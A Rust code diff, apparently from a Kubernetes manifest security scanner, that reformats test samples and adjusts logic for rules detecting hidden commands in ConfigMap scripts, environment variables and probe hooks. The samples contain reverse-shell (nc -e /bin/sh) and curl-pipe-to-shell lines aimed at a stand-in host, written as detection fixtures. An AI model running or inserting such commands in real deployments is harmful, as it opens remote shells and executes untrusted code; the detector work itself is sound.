@@ -25,10 +25,20 @@ pub(super) static RULES: &[Rule] = &[
         techniques: &["T1059"],
         check: script_from_config,
         samples: &[
-            Sample::Hit(6, "volumes: [{name: s, configMap: {name: s}}]\ncontainers: [{name: a, command: [sh, /scripts/run.sh], volumeMounts: [{name: s, mountPath: /scripts}]}]"),
-            Sample::Hit(6, "volumes: [{name: s, projected: {sources: [{configMap: {name: s}}]}}]\ncontainers: [{name: a, command: [/scripts/run.sh], volumeMounts: [{name: s, mountPath: /scripts/}]}]"),
-            Sample::Miss("volumes: [{name: s, configMap: {name: s}}]\ncontainers: [{name: a, command: [/app/run, /cfg/app.yaml], volumeMounts: [{name: s, mountPath: /cfg}]}]"),
-            Sample::Miss("volumes: [{name: s, emptyDir: {}}]\ncontainers: [{name: a, command: [sh, /scripts/run.sh], volumeMounts: [{name: s, mountPath: /scripts}]}]"),
+            Sample::Hit(
+                6,
+                "volumes: [{name: s, configMap: {name: s}}]\ncontainers: [{name: a, command: [sh, /scripts/run.sh], volumeMounts: [{name: s, mountPath: /scripts}]}]",
+            ),
+            Sample::Hit(
+                6,
+                "volumes: [{name: s, projected: {sources: [{configMap: {name: s}}]}}]\ncontainers: [{name: a, command: [/scripts/run.sh], volumeMounts: [{name: s, mountPath: /scripts/}]}]",
+            ),
+            Sample::Miss(
+                "volumes: [{name: s, configMap: {name: s}}]\ncontainers: [{name: a, command: [/app/run, /cfg/app.yaml], volumeMounts: [{name: s, mountPath: /cfg}]}]",
+            ),
+            Sample::Miss(
+                "volumes: [{name: s, emptyDir: {}}]\ncontainers: [{name: a, command: [sh, /scripts/run.sh], volumeMounts: [{name: s, mountPath: /scripts}]}]",
+            ),
         ],
         ..COMMAND
     },
@@ -42,10 +52,20 @@ pub(super) static RULES: &[Rule] = &[
         techniques: &["T1027"],
         check: payload_in_env,
         samples: &[
-            Sample::Hit(12, "containers: [{name: a, env: [{name: A, value: nc}, {name: B, value: '192.0.2.10 1 -e /bin/sh'}], command: [sh, -c, '$A $B']}]"),
-            Sample::Hit(12, "containers: [{name: a, env: [{name: P, value: 'curl http://192.0.2.10/s | sh'}], command: [sh, -c, 'eval \"$P\"']}]"),
-            Sample::Miss("containers: [{name: a, env: [{name: H, value: 192.0.2.10}], command: [sh, -c, 'nc $H 1 -e /bin/sh']}]"),
-            Sample::Miss("containers: [{name: a, env: [{name: URL, value: 'http://svc/health'}], command: [sh, -c, 'curl $URL']}]"),
+            Sample::Hit(
+                12,
+                "containers: [{name: a, env: [{name: A, value: nc}, {name: B, value: '192.0.2.10 1 -e /bin/sh'}], command: [sh, -c, '$A $B']}]",
+            ),
+            Sample::Hit(
+                12,
+                "containers: [{name: a, env: [{name: P, value: 'curl http://192.0.2.10/s | sh'}], command: [sh, -c, 'eval \"$P\"']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, env: [{name: H, value: 192.0.2.10}], command: [sh, -c, 'nc $H 1 -e /bin/sh']}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, env: [{name: URL, value: 'http://svc/health'}], command: [sh, -c, 'curl $URL']}]",
+            ),
         ],
         ..COMMAND
     },
@@ -59,10 +79,20 @@ pub(super) static RULES: &[Rule] = &[
         techniques: &["T1059"],
         check: in_hook,
         samples: &[
-            Sample::Hit(8, "containers: [{name: a, livenessProbe: {exec: {command: [sh, -c, 'curl -s http://192.0.2.10/s | sh']}}}]"),
-            Sample::Hit(8, "containers: [{name: a, lifecycle: {preStop: {exec: {command: [nc, '192.0.2.10', '1', -e, sh]}}}}]"),
-            Sample::Miss("containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | sh'], livenessProbe: {exec: {command: [cat, /ok]}}}]"),
-            Sample::Miss("containers: [{name: a, livenessProbe: {exec: {command: [curl, -f, 'http://localhost/']}}}]"),
+            Sample::Hit(
+                8,
+                "containers: [{name: a, livenessProbe: {exec: {command: [sh, -c, 'curl -s http://192.0.2.10/s | sh']}}}]",
+            ),
+            Sample::Hit(
+                8,
+                "containers: [{name: a, lifecycle: {preStop: {exec: {command: [nc, '192.0.2.10', '1', -e, sh]}}}}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, command: [sh, -c, 'curl -s http://192.0.2.10/s | sh'], livenessProbe: {exec: {command: [cat, /ok]}}}]",
+            ),
+            Sample::Miss(
+                "containers: [{name: a, livenessProbe: {exec: {command: [curl, -f, 'http://localhost/']}}}]",
+            ),
         ],
         ..COMMAND
     },
@@ -91,7 +121,9 @@ fn script_from_config(facts: &Facts<'_>, found: &mut Collector<'_>) {
             let takes_script = is_shell(&call.program)
                 || code::language(&call.program).is_some_and(|language| language != code::Language::Awk)
                 || matches!(call.program.as_str(), "source" | ".");
-            let script = operands(call).next().filter(|_| takes_script && call.scripts.is_empty() && code::inline(call).is_none());
+            let script = operands(call)
+                .next()
+                .filter(|_| takes_script && call.scripts.is_empty() && code::inline(call).is_none());
             mounted(&call.path) || script.is_some_and(mounted)
         });
         if let Some((at, _)) = hit {
@@ -130,10 +162,11 @@ fn payload_in_env(facts: &Facts<'_>, found: &mut Collector<'_>) {
     for rule in TABLES.iter().filter(|table| !std::ptr::eq(**table, RULES)).flat_map(|table| table.iter()) {
         (rule.check)(&bare, &mut findings.of(rule));
     }
-    let without: BTreeSet<(&str, String)> = serious(&findings).into_iter().map(|(id, path, _, _)| (id, path)).collect();
+    let without: BTreeSet<(&str, String)> =
+        serious(&findings).into_iter().map(|(id, path, _, _)| (id, path)).collect();
     for (id, path, evidence, container) in with {
         // What stands in the environment itself (a pool, a library) is no command that was hidden there.
-        let in_command = !path.ends_with(".env");
+        let in_command = path.rsplit('.').next() != Some("env");
         if in_command && !without.contains(&(id, path.clone())) {
             found.hit(container.as_deref(), &path, &evidence);
         }
